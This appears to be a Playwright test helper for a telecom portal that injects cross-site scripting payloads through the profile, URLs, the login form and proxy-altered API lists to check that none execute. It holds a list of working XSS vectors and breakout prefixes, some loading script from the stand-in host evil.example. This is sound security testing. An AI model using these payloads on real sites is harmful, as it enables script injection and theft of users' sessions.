import type { Page } from '@playwright/test';
import { proofOf } from '@portal/testbed/fixtures/area-proofs';
import { rows } from '@portal/testbed/fixtures/screens';
import type { FaultProxy } from '@portal/testbed/proxy/fault-proxy';
import { altered, tamperMark } from '@portal/testbed/proxy/faults';

/** Fields of calls, messages and payments whose text comes from outside: networks, senders, campaigns. */
const foreignTexts = new Set([
  'number_from',
  'number_from_name',
  'number_to',
  'destination',
  'sip_reason',
  'codec',
  'sender',
  'recipient',
  'operator',
  'error_name',
  'text',
  'campaign_name',
  'comment',
  'description',
  'status_reason',
]);

/** Stores the payload in the profile and opens the profile. */
export async function throughProfile(page: Page, payload: string): Promise<void> {
  const short = payload.length <= 32 ? { name: payload, company: payload } : {};
  const response = await page.request.put('/v1/accounts/profile', {
    data: { address: payload, ...short },
    headers: { 'x-requested-with': 'portal' },
  });
  // A field may refuse the text; then it cannot be displayed.
  if (!response.ok() && response.status() !== 400)
    throw new Error(`the profile returned ${response.status()}`);
  await page.goto('/profile');
  await proofOf('profile').shown(page).waitFor();
}

/** Puts the payload into an address and into a search field. */
export async function throughAddress(page: Page, payload: string): Promise<void> {
  const text = encodeURIComponent(payload);
  await page.goto(`/finances/payments?filter_query=${text}&sidebar=${text}&order=${text}#${text}`);
  const search = page.getByRole('searchbox').first();
  await search.waitFor();
  await search.fill(payload);
  await search.press('Enter');
  await page.goto(`/${text}?language=${text}&without=${text}`);
  await page.getByRole('heading', { level: 1 }).waitFor();
}

/** Puts the payload into the address and the form of the login screen. */
export async function throughLogin(page: Page, payload: string): Promise<void> {
  const text = encodeURIComponent(payload);
  await page.goto(`/login?return_to=${text}&reason=${text}&email=${text}`);
  await page.getByLabel('E-mail').fill(payload);
  await page.getByLabel('E-mail').blur();
}

/** Replaces the texts in the responses of the lists by the payloads, in turn. */
export function poisonLists(proxy: FaultProxy, payloads: readonly string[]): void {
  let next = 0;
  const poison = (key: string, value: unknown): unknown => {
    if (!foreignTexts.has(key) || typeof value !== 'string') return value;
    next += 1;
    return payloads[next % payloads.length];
  };
  const lists = /^\/v1\/(?:services\/[^/]+\/(?:cdr|messages|report)|finances\/payments)/;
  proxy.inject(
    (path) => lists.test(path),
    altered((body) => Buffer.from(JSON.stringify(JSON.parse(body.toString(), poison)))),
  );
}

/** Opens the lists and the details of their first rows. */
export async function throughLists(page: Page): Promise<void> {
  for (const path of ['/voicing/cdr', '/messaging/history', '/finances/payments']) {
    for (const offset of [0, 50, 100]) {
      await page.goto(`${path}?limit=50&offset=${offset}`);
      await page.getByRole('main').getByRole('heading', { level: 1 }).waitFor();
      const row = rows(page).first();
      await row.waitFor({ timeout: 8_000 }).catch(() => undefined);
      if (offset === 0) await row.getByRole('button').last().click({ timeout: 3_000 });
    }
  }
}

const run = `${tamperMark}=1`;

/** Short payloads of every kind. Their elements carry `data-xss`. */
const vectors: readonly string[] = [
  `<script data-xss>${run}</script>`,
  '<script data-xss src=//evil.example/x.js></script>',
  `<img data-xss src=x onerror=${run}>`,
  '<img data-xss src=x onerror=alert(1)>',
  `<svg data-xss onload=${run}>`,
  `<svg data-xss><script>${run}</script></svg>`,
  `<svg data-xss><animate onbegin=${run} attributeName=x>`,
  `<math data-xss><mtext><img src=x onerror=${run}>`,
  `<body data-xss onload=${run}>`,
  `<details data-xss open ontoggle=${run}>`,
  `<input data-xss autofocus onfocus=${run}>`,
  `<video data-xss><source onerror=${run}>`,
  `<audio data-xss src=x onerror=${run}>`,
  '<iframe data-xss src=javascript:alert(1)>',
  `<iframe data-xss srcdoc="<script>parent.${run}</script>">`,
  '<object data-xss data=javascript:alert(1)>',
  '<embed data-xss src=javascript:alert(1)>',
  '<a data-xss href=javascript:alert(1)>x</a>',
  '<form data-xss action=javascript:alert(1)><button>x',
  '<base data-xss href=//evil.example/>',
  '<meta data-xss http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link data-xss rel=stylesheet href=//evil.example/x.css>',
  '<style data-xss>@import "//evil.example/x.css"</style>',
  `<noscript data-xss><p title="</noscript><img src=x onerror=${run}>">`,
  `<marquee data-xss onstart=${run}>`,
  `<template data-xss><script>${run}</script></template>`,
  `javascript:${run}`,
  '$t(common:shell.logOut) {{constructor.constructor("alert(1)")()}}',
];

/** Prefixes that leave the context of a text: nothing, an attribute, a script, a comment. */
const breakouts = ['', '">', "'-alert(1)-'", '</script>', '--><!--'];

/** Every payload with every prefix, short enough for an address. */
export const xssPayloads: readonly string[] = vectors
  .flatMap((vector) => breakouts.map((breakout) => breakout + vector))
  .filter((payload) => payload.length <= 128);
